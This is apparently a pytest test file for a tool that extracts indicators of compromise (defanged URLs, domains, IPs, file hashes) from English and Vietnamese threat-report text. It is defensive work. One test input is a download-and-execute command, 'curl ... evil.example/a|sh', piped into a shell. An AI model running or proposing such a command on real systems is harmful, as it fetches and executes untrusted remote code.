from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lamsach.indicators.text.extract import scan
from lamsach.indicators.values.refusals import Refused


def accepted(text: str) -> list[str]:
    return [found[1] for found in scan(text) if not isinstance(found, Refused)]


@pytest.mark.parametrize(
    ("text", "values"),
    [
        ("The C2 at 203.0.113.9 (port 443) and bot-c2.xyz.", ["203.0.113.9", "bot-c2.xyz"]),
        (
            "Máy chủ điều khiển: hxxps://evil[.]example/gate.php, tên miền dự phòng c2[.]evil[.]com.vn",
            ["https://evil.example/gate.php", "c2.evil.com.vn"],
        ),
        ("(http://evil.example/a.png)", ["http://evil.example/a.png"]),
        ("see http://evil.example/a(b).php.", ["http://evil.example/a(b).php"]),
        ("[text](http://evil.example/a)", ["http://evil.example/a"]),
        (
            "[http://evil.example/a](http://evil.example/a)",
            ["http://evil.example/a", "http://evil.example/a"],
        ),
        ("https://vendor.example/report/[the report]", ["https://vendor.example/report"]),
        ('<a href="http://evil.example/a?b=1">', ["http://evil.example/a?b=1"]),
        (
            "http://a.example/1,http://b.example/2;http://c.example/3",
            ["http://a.example/1", "http://b.example/2", "http://c.example/3"],
        ),
        ("http://evil.example/a]b", ["http://evil.example/a]b"]),
        ("url:hxxp://evil.example/a?b=c", ["http://evil.example/a?b=c"]),
        ("- `\\https://evil.example/watch?v=1`", ["https://evil.example/watch?v=1"]),
        ("* `++hxxp://evil.example/exec++`", ["http://evil.example/exec"]),
        ("http://a.example/xhttp://b.example/y", ["http://a.example/x", "http://b.example/y"]),
        (
            "http://a.example/x/*http://b.example/y/*http://c.example/z",
            ["http://a.example/x", "http://b.example/y", "http://c.example/z"],
        ),
        (
            "$u='http://a.example/x@http://b.example/y'.Split('@')",
            ["http://a.example/x", "http://b.example/y"],
        ),
        ("Domain1: evil.example:1604:secret", ["evil.example"]),
        ("5f4dcc3b5aa765d61d8327deb882cf99:setup.exe", ["5f4dcc3b5aa765d61d8327deb882cf99"]),
        ("a.example–b.example", ["a.example", "b.example"]),
        ("evil.example→203.0.113.5", ["evil.example", "203.0.113.5"]),
        ("203.0.113.0 to 203.0.113.255", ["203.0.113.0/24"]),
        ("203.0.113.0 đến 203.0.113.255", ["203.0.113.0/24"]),
        ("「http://evil.example/a」", ["http://evil.example/a"]),
        (
            "5f4dcc3b5aa765d61d8327deb882cf99/adc83b19e793491b1c6ea0fd8b46cd9f32e592fc",
            ["5f4dcc3b5aa765d61d8327deb882cf99", "adc83b19e793491b1c6ea0fd8b46cd9f32e592fc"],
        ),
        ("curl -s http://evil.example/a|sh", ["http://evil.example/a"]),
        ("a.exe: 5f4dcc3b5aa765d61d8327deb882cf99", ["5f4dcc3b5aa765d61d8327deb882cf99"]),
        ("imphash:5f4dcc3b5aa765d61d8327deb882cf99", []),
        ("PublicKey_MD5 - 5f4dcc3b5aa765d61d8327deb882cf99", []),
        ("'jarm_hash': '5f4dcc3b5aa765d61d8327deb882cf99'", []),
        ("SpawnTo - 00000000000000000000000000000000", []),
        ("Imphash - 5f4dcc3b5aa765d61d8327deb882cf99", []),
        ("magnet:?xt=urn:btih:5f4dcc3b5aa765d61d8327deb882cf9912345678", []),
        (
            "IP:203.0.113.9;Domain:evil.example;MD5:5f4dcc3b5aa765d61d8327deb882cf99",
            ["203.0.113.9", "evil.example", "5f4dcc3b5aa765d61d8327deb882cf99"],
        ),
        ("5F4DCC3B5AA765D61D8327DEB882CF99 - order.exe", ["5f4dcc3b5aa765d61d8327deb882cf99"]),
        ("5f4dcc3b5aa765d61d8327deb882cf99.bin", ["5f4dcc3b5aa765d61d8327deb882cf99"]),
        ("2001:db8::ff00:42:8329 and [2001:db8::2]:443", ["2001:db8::ff00:42:8329", "2001:db8::2"]),
        ("range 203.0.113.0-203.0.113.255 and 198.51.100.0/24", ["203.0.113.0/24", "198.51.100.0/24"]),
        ("||ads.example^$third-party", ["ads.example"]),
        ("evil.example/gate.php, evil.example:8080", ["evil.example/gate.php", "evil.example"]),
        ("\\\\203.0.113.5\\share\\a.exe", ["203.0.113.5"]),
        ("BAR.EXAMPLE", ["bar.example"]),
        # two things in one word
        ("setup.exe:5f4dcc3b5aa765d61d8327deb882cf99", ["5f4dcc3b5aa765d61d8327deb882cf99"]),
        ("client 203.0.113.5#53124 asked", ["203.0.113.5"]),
        ("203.0.113.5/203.0.113.6", ["203.0.113.5", "203.0.113.6"]),
        ("203.0.113.0/255.255.255.0", ["203.0.113.0/24"]),
        ("evil.example:203.0.113.5", ["evil.example", "203.0.113.5"]),
        # a log's label after a comma; an expression that matches URLs; a file's host
        ("http://203.0.113.5/a.exe,file: C:\\a.exe", ["http://203.0.113.5/a.exe"]),
        ("^(https://evil.example/)([a-zA-Z0-9]{0,50})?", []),
        ("https://evil.example/a_(b)(c)", ["https://evil.example/a_(b)(c)"]),
        ("open file://203.0.113.5/share/a.url or file:///C:/Users/a.exe", ["203.0.113.5"]),
        ("hxxp://evil%2Eexample/a", ["http://evil.example/a"]),
        ("12:34:56 AA:BB:CC:DD:EE:FF std::string 1:1 aa:bb:cc:dd:ee:ff:00:11", []),
        ("Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/535.11 Chrome/17.0.963.56 .NET CLR 1.1.4322", []),
        ("C:\\Users\\Public\\evil.example.exe /usr/bin/evil.sh ./a.py HKLM\\SOFTWARE\\x.com", []),
        ("Đơn vị báo cáo.Các đơn vị khác. System.In Trojan.Win32.Agent.AI e.g. i.e. v1.2.3", []),
        ("write to officer@unit.example or noreply@evil.example", []),
        ("UUID 123e4567-e89b-12d3-a456-426614174000", []),
        ("0123456789abcdef0123456789abcdef0", []),
    ],
)
def test_values_in_running_text(text: str, values: list[str]) -> None:
    assert accepted(text) == values


@pytest.mark.parametrize(
    ("text", "refused"),
    [
        ("drops install.sh and setup.exe here", ["install.sh", "setup.exe"]),
        ("internal 192.168.1.5 talks", ["192.168.1.5"]),
        ("mail officer@unit.example", ["officer@unit.example"]),
        ("all of com.vn", ["com.vn"]),
    ],
)
def test_texts_that_only_look_like_a_value_are_reported(text: str, refused: list[str]) -> None:
    assert [found.value for found in scan(text) if isinstance(found, Refused)] == refused
    assert accepted(text) == []


@given(st.text())
def test_any_text_is_read(text: str) -> None:
    list(scan(text))


@pytest.mark.parametrize(
    "unit",
    ["a.", "1.", "http://", ":", "::", "a:", "[.]", "1.1.1.1-", "ff", "@a.", "\\\\a", "%", "http://a.b["],
)
def test_long_hostile_text_is_read_in_linear_time(unit: str) -> None:
    # A rule of more than linear time would keep this from ending.
    assert list(scan(unit * 100_000)) is not None
